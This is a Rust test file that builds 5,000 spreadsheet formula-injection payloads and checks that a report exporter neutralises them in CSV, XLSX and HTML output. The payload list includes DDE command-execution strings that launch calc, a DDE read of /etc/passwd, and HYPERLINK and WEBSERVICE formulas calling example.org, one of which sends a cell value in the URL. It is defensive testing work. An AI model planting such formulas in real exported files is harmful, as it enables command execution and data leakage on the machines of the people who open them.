//! Five thousand ways to put a formula into a field, and a spreadsheet that looks for one (SECURITY 3.6 E1).

use super::office::Office;
use super::written::parts;
use std::path::PathBuf;
use upprop::report::{Cell, Column, Format, Sheet, Target, Writing, write};
use upprop::wording::{Lang, Words};

const COUNT: usize = 5_000;

/// What a formula begins with, after what a spreadsheet may trim or a reader may drop.
const BEFORE: &[&str] = &[
    "", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\u{b}", "\u{a0}", "\u{2009}", "\u{3000}", "\u{200b}", "\u{feff}",
    "\u{202e}", "\u{2066}", "'", "\"", "\";", "\",", "\"\r\n", ";", ",", "\\", "\u{1f}",
];
const BEGIN: &[&str] = &["=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-", "+=", "-+", "@="];
const BODY: &[&str] = &[
    "1+1",
    "2*3",
    "SUM(A1:A9)",
    "A1",
    "cmd|' /C calc'!A0",
    "DDE(\"soffice\";\"/etc/passwd\";\"a\")",
    "HYPERLINK(\"http://example.org/?x=\"&A1;\"klicka\")",
    "HYPERLINK(\"http://example.org\",\"x\")",
    "WEBSERVICE(\"http://example.org\")",
    "IMPORTXML(\"http://example.org\",\"//a\")",
    "MSEXCEL|'\\..\\..\\system32\\calc'!''",
    "NOW()",
    "CHAR(61)",
    "of:=1+1",
    "'a'!B2",
    "{1;2}",
];

/// All of them, each unlike the others.
fn payloads() -> Vec<String> {
    let mut payloads = Vec::new();
    for body in BODY {
        for before in BEFORE {
            for begin in BEGIN {
                payloads.push(format!("{before}{begin}{body}"));
            }
        }
    }
    assert!(payloads.len() >= COUNT, "{}", payloads.len());
    payloads.truncate(COUNT);
    payloads
}

/// The payloads as words, as links, and first and last in a row.
fn hostile() -> Sheet {
    let column = |key: &'static str, title: &str| Column { key, title: title.to_owned() };
    let columns = vec![column("first", "=1+1"), column("number", "-2"), column("link", "@x"), column("last", "\t=3")];
    let rows = payloads().into_iter().map(|payload| {
        let text = Cell::Text(payload.clone());
        vec![text.clone(), Cell::Count(-7), Cell::Link { text: payload, to: Target::Pool("=P".to_owned()) }, text]
    });
    Sheet { title: "=1+1".to_owned(), columns, rows: rows.collect() }
}

fn written(format: Format) -> Vec<u8> {
    let writing = Writing { words: &Words::new(Lang::Sv), day: jiff::civil::date(2026, 11, 23) };
    write(&hostile(), format, &writing).expect("a sheet that can be written")
}

#[test]
fn no_cell_of_a_file_begins_as_a_formula_does() {
    for (format, separator) in [(Format::Csv, b';'), (Format::CsvRfc, b',')] {
        let file = String::from_utf8(written(format)).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .has_headers(false)
            .from_reader(file.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
        assert_eq!(rows.len(), COUNT + 1, "no row was broken in two");
        for row in &rows {
            assert_eq!(row.len(), 4);
            for field in row.iter().filter(|field| *field != "-7") {
                let first = field.chars().find(|c| !c.is_whitespace()).unwrap_or('.');
                assert!(!"=+-@＝＋－＠\t\r\0".contains(first), "{}: {field:?}", format.word());
                assert!(!field.chars().any(char::is_control), "{field:?}");
            }
        }
    }
}

#[test]
fn no_part_of_a_workbook_has_a_formula_a_link_or_a_connection() {
    for (name, text) in parts(&written(Format::Xlsx)) {
        assert!(!text.contains("<f>") && !text.contains("<f ") && !text.contains("<hyperlink"), "{name}");
        assert!(
            !["externalLink", "connection", "calcChain", "ddeLink"].iter().any(|word| name.contains(word)),
            "{name}"
        );
        assert!(!text.contains("ddeLink") && !text.contains("TargetMode"), "{name}");
    }
}

#[test]
fn a_spreadsheet_that_opens_five_thousand_of_them_finds_no_formula() {
    let Some(office) = Office::find() else { return };
    let file = |format: Format, name: &str| -> PathBuf {
        let path = office.folder().join(name);
        std::fs::write(&path, written(format)).unwrap();
        path
    };
    // Separator, quote, UTF-8, from the first line on, detecting numbers and formulas as a double click does.
    let as_clicked = |separator: u8| format!("CSV:{separator},34,76,1,,0,false,true,false");
    let evaluating = |separator: u8| format!("CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true");
    let excel = file(Format::Csv, "excel.csv");
    let machine = file(Format::CsvRfc, "machine.csv");
    let workbook = file(Format::Xlsx, "workbook.xlsx");
    let page = file(Format::Html, "page.html");
    let mut opened = Vec::new();
    for (path, reading) in [
        (excel.clone(), Some(as_clicked(b';'))),
        (excel, Some(evaluating(b';'))),
        (machine.clone(), Some(as_clicked(b','))),
        (machine, Some(evaluating(b','))),
        (workbook, None),
        (page, Some("HTML (StarCalc)".to_owned())),
    ] {
        let made = office.convert(&[path], reading.as_deref(), "fods").remove(0);
        opened.push((made.display().to_string(), std::fs::read_to_string(made).unwrap()));
    }
    for (name, document) in &opened {
        assert!(document.matches("klicka").count() > 300, "{name}: the words are there");
        assert!(!document.contains("table:formula"), "{name}: {}", formula(document));
        for word in ["dde-source", "xlink:href=\"http://example.org", "text:a "] {
            assert!(!document.contains(word), "{name}: {word}");
        }
    }
    // The same test sees a formula where there is one.
    let bare = office.folder().join("bare.csv");
    std::fs::write(&bare, "a;b\r\n=1+1;2\r\n").unwrap();
    let made = office.convert(&[bare], Some(&evaluating(b';')), "fods").remove(0);
    assert!(std::fs::read_to_string(made).unwrap().contains("table:formula"), "it looks for formulas");
}

fn formula(document: &str) -> &str {
    let at = document.find("table:formula").unwrap_or(0);
    document[at..].split('>').next().unwrap_or("")
}
